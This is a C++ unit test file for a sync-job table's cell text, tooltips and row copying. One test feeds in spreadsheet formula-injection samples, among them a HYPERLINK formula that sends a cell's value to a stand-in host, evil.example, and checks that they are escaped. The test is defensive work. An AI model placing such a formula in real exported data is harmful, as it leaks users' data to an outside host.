#include "table/job_text.h"

#include <doctest/doctest.h>

#include "jobs/job_json.h"
#include "support/table_fixture.h"

using namespace syncwall;
using namespace syncwall::test;

TEST_CASE("cells say what the columns promise") {
  Job j = TableFixture::job(1);
  j.user_name.clear();
  std::string buffer;
  CHECK(cell_text(view_of(j), Column::User, kNow, buffer) == "user-1");
  CHECK(cell_text(view_of(j), Column::LastSync, kNow, buffer) == "1 min ago");
  CHECK(cell_text(view_of(j), Column::Schedule, kNow, buffer) == "Every hour");
  j.type = ConnectorType::Other;
  j.type_text = "dropbox##x%s";
  CHECK(cell_text(view_of(j), Column::Type, kNow, buffer) == "dropbox##x%s");
  j.last_sync_at = kNever;
  CHECK(cell_text(view_of(j), Column::LastSync, kNow, buffer) == "—");
}

TEST_CASE("the Status tooltip says why a job failed, that a run follows a failure, and how late it is") {
  Job j = TableFixture::job(1, Status::Failed);
  j.last_sync_error = "403 from bucket";
  CHECK(tooltip(view_of(j), Column::Status, kNow).headline == "Sync failed");
  CHECK(tooltip(view_of(j), Column::Status, kNow).text == "403 from bucket");
  j.status = Status::Running;
  CHECK(tooltip(view_of(j), Column::Status, kNow).headline == "Running; its last run failed");
  j.status = Status::Pending;
  j.last_sync_error.clear();
  j.last_sync_at = kNow - 2 * 3600'000;
  CHECK(tooltip(view_of(j), Column::Status, kNow).headline == "Overdue");
  CHECK(tooltip(view_of(j), Column::Status, kNow).text.find("was due") == 0);
}

TEST_CASE("a copied row is one line") {
  Job j = TableFixture::job(1, Status::Failed);
  j.collection_name = "a\tb\n\"c\\";
  CHECK(copy_row_tsv(view_of(j)).find('\n') == std::string::npos);
  CHECK(copy_cell(view_of(j), Column::Created) == "2026-11-18T11:06:39.000Z");
}

TEST_CASE("copied rows paste as rows: no formula runs, and a quote swallows nothing") {
  // From /work/shared/cases/tsv.json.
  const std::pair<const char*, const char*> kCells[] = {
      {"\"Q3 plan", "\"\"\"Q3 plan\""},
      {"payroll", "payroll"},
      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
       "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""},
      {"-5+3", "'-5+3"},
      {"＝1+1", "'＝1+1"}};
  for (const auto& [name, cell] : kCells) {
    Job j = TableFixture::job(1);
    j.collection_name = name;
    CHECK(copy_row_tsv(view_of(j)).find("\t" + std::string(cell) + "\t") != std::string::npos);
    CHECK(copy_cell(view_of(j), Column::Collection) == name);  // one value, for a search or a ticket
  }
  Job j = TableFixture::job(1);
  j.id = "=1+1";
  j.last_sync_error = "@SUM(A1)";
  CHECK(copy_row_tsv(view_of(j)).starts_with("'=1+1\t"));
  CHECK(copy_row_tsv(view_of(j)).ends_with("\t'@SUM(A1)"));
}

TEST_CASE("what can't be read is shown as such, and as it came where one looks closer") {
  Job j = TableFixture::job(1, Status::Completed);
  j.created_at = j.last_sync_at = kUnknownTime;
  j.schedule_s = kUnknownSchedule;
  j.collection_id = j.collection_name = "";
  append_odd_field(j.odd_fields, JobField::Created, Oddity::Unreadable, "2026-13-45");
  append_odd_field(j.odd_fields, JobField::Schedule, Oddity::Missing);
  std::string buffer;
  CHECK(cell_text(view_of(j), Column::Created, kNow, buffer) == "unreadable");
  CHECK(cell_text(view_of(j), Column::LastSync, kNow, buffer) == "unknown");
  CHECK(cell_text(view_of(j), Column::Schedule, kNow, buffer) == "unknown");
  CHECK(cell_text(view_of(j), Column::Collection, kNow, buffer) == "unknown");
  CHECK(tooltip(view_of(j), Column::Created, kNow).text == "unreadable: «2026-13-45»");
  CHECK(copy_cell(view_of(j), Column::Created) == "unreadable: «2026-13-45»");
  CHECK(copy_cell(view_of(j), Column::LastSync) == "unknown");
  CHECK(lateness_text(view_of(j), kNow).empty());
  bool created = false, late = false;
  for (const Field& field : all_fields(view_of(j), kNow)) {
    if (field.label == "Created") created = field.text == "unreadable: «2026-13-45»";
    if (field.label == "Late") late = field.text.starts_with("unknown");
  }
  CHECK(created);
  CHECK(late);
  j.odd_fields.clear();
  j.created_at = kNow;
  append_odd_field(j.odd_fields, JobField::Created, Oddity::NoZone);
  CHECK(tooltip(view_of(j), Column::Created, kNow).text.ends_with("told without a zone, read as UTC"));
}

TEST_CASE("a schedule that is no interval is shown in its own words, in each place") {
  Job job;
  job.id = "a";
  job.schedule_s = kUnknownSchedule;
  append_odd_field(job.odd_fields, JobField::Schedule, Oddity::Words, "cron 0 6 * * *");
  const JobView view = view_of(job);
  std::string buffer;
  CHECK(cell_text(view, Column::Schedule, 0, buffer) == "cron 0 6 * * *");
  CHECK(exact_schedule(view) == "cron 0 6 * * *");
  CHECK(copy_cell(view, Column::Schedule) == "cron 0 6 * * *");
  CHECK_FALSE(has_unreadable(view.odd_fields));
  std::string json;
  append_job_json(json, view);
  CHECK(json.find(R"("schedule":"cron 0 6 * * *")") != std::string::npos);
}
